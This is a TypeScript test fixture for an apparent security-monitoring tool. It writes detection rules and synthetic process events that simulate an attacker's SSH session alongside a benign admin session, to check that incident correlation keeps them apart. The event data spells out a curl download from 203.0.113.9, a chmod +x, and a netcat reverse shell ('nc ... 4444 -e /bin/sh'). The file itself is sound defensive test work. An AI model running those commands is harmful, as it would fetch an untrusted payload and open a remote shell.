// The incident scenario both deployments' tests replay through a simulated agent: an attacker's SSH session
// (a shell under a per-session sshd, under the sshd listener) that fetches with curl, changes modes through a
// subshell and opens a netcat reverse shell, and an unrelated admin session under the same sshd listener that
// runs whoami. Three rules (curl: medium, chmod: low, whoami: low) besides the built-in netcat rule (high):
// expected, two incidents: the attack chain (3 alerts, high) and the admin's (1 alert, low). The shared sshd
// listener must not link them.

import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { VigilEvent } from '../../src/schema/event.ts';

const rule = (name: string, image: string, level: string) => `title: Incident scenario ${name}
id: 7e1d0000-0000-4000-8000-${name.padStart(12, '0')}
status: test
level: ${level}
logsource:
  product: linux
  category: process_creation
detection:
  sel:
    Image|endswith: '${image}'
  condition: sel
`;

export const SCENARIO_RULE_TITLES = { curl: 'Incident scenario curl', chmod: 'Incident scenario chmod', whoami: 'Incident scenario whoami', netcat: 'Netcat Reverse Shell' };

/** Writes the scenario's rules into `dir` (a rule directory for the server or workers). */
export function writeScenarioRules(dir: string): string {
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'incident-scenario.yml'), [rule('curl', '/curl', 'medium'), rule('chmod', '/chmod', 'low'), rule('whoami', '/whoami', 'low')].join('---\n'));
  return dir;
}

interface Proc { pid: number; entity: string; exe: string; args: string[] }

/**
 * The scenario's events, as the agent would report them, shaped from `template` (a synthetic event of the
 * sending agent: host and agent fields); times from `startMs` on, 10 ms apart. Entity ids carry `tag` so that
 * several runs on one host are separate processes.
 */
export function scenarioEvents(template: () => VigilEvent, startMs: number, tag: string): VigilEvent[] {
  let clock = startMs;
  let n = 0;
  const p = (pid: number, name: string, exe: string, args: string[]): Proc => ({ pid, entity: `${tag}-${name}`, exe, args });
  const start = (x: Proc, parent?: Proc): VigilEvent => {
    const e = template();
    e['@timestamp'] = new Date(clock += 10).toISOString();
    e.event = { ...e.event, id: `0190c0de-${tag.slice(0, 4).padEnd(4, '0')}-7000-8000-${String(++n).padStart(12, '0')}`, type: 'process_start', action: 'exec', category: 'process' };
    e.process = { pid: x.pid, ppid: parent?.pid ?? 1, entity_id: x.entity, executable: x.exe, name: x.exe.split('/').pop(), args: x.args, command_line: x.args.join(' '),
      start: e['@timestamp'], ...(parent ? { parent: { pid: parent.pid, entity_id: parent.entity, executable: parent.exe, command_line: parent.args.join(' ') } } : {}) };
    e.user = { id: '1000', name: 'mallory' };
    return e;
  };
  const listener = p(800, 'sshd', '/usr/sbin/sshd', ['/usr/sbin/sshd', '-D']);
  const session = p(900, 'sshd-mallory', '/usr/sbin/sshd', ['sshd: mallory [priv]']);
  const shell = p(1000, 'bash', '/bin/bash', ['-bash']);
  const curl = p(1001, 'curl', '/usr/bin/curl', ['curl', '-o', '/tmp/x', 'http://203.0.113.9/x']);
  const sub = p(1002, 'subshell', '/bin/sh', ['sh', '-c', 'chmod +x /tmp/x']);
  const chmod = p(1003, 'chmod', '/usr/bin/chmod', ['chmod', '+x', '/tmp/x']);
  const nc = p(1004, 'nc', '/usr/bin/nc', ['nc', '203.0.113.9', '4444', '-e', '/bin/sh']);
  const adminSession = p(950, 'sshd-admin', '/usr/sbin/sshd', ['sshd: admin [priv]']);
  const adminShell = p(1100, 'admin-bash', '/bin/bash', ['-bash']);
  const whoami = p(1101, 'whoami', '/usr/bin/whoami', ['whoami']);
  return [
    start(listener), start(session, listener), start(shell, session), start(curl, shell), start(sub, shell), start(chmod, sub), start(nc, shell),
    start(adminSession, listener), start(adminShell, adminSession), start(whoami, adminShell),
  ];
}
